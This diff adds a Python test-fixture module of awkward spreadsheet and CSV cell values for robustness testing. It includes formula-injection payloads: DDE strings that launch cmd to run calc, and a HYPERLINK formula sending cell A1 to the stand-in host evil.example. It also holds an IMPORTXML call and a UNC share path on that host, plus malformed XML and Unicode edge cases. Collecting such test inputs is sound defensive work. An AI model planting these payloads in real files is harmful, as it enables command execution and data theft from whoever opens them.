@@ -1,0 +1,77 @@
+"""Sixty cells that spreadsheets, CSV readers or XML get wrong (faults.md §2 and §5)."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd","/C calc","x")',
+    '=IMPORTXML("http://evil.example","//a")',
+    "{=1+1}",
+    "+1",
+    "+1+cmd|' /C calc'!A0",
+    "-1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@x",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    " =1+1",
+    "\t=1+1",
+    "\tx",
+    "\r=1+1",
+    "\rx",
+    "\n=1+1",
+    "\nx",
+    "\x00=1+1",
+    "\x00x",
+    "\ufeff=1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(1)",
+    "a;=1+1;b",
+    "a,=1+1,b",
+    "a|=1+1",
+    "a\t=1+1",
+    "a\n=1+1",
+    "a\r\n@SUM(1)",
+    'a"=1+1',
+    '";=1+1;"',
+    "a; +1",
+)
+
+LINKS = (
+    "http://evil.example/",
+    "https://evil.example/?a=1&b=2",
+    "ftp://evil.example",
+    "mailto:dana@acme.example",
+    "internal:Info!A1",
+    "external:c:\\temp\\x.xlsx",
+    "\\\\evil.example\\share",
+)
+
+ODD = (
+    "",
+    " leading and trailing ",
+    "quotes \"inside\" and 'these'",
+    "line\nbreak",
+    "carriage\rreturn",
+    "00123",
+    "1e5",
+    "9007199254740993",
+    "TRUE",
+    "2026-05-01",
+    "\x01\x08\x0b\x1f",
+    "_x0041_",
+    "_x0041_x0042_",
+    "<r><t>markup</t></r>",
+    "</t></is></c><b>&amp;]]>",
+    "\ufffe and \uffff",
+    "Ünïcödé ½ Ω",
+    "日本語のセグメント",
+    "שלום \u202ertl\u202c",
+    "👩\u200d👩\u200d👧 and 😀",
+)
+
+NASTY = FORMULAS + LINKS + ODD
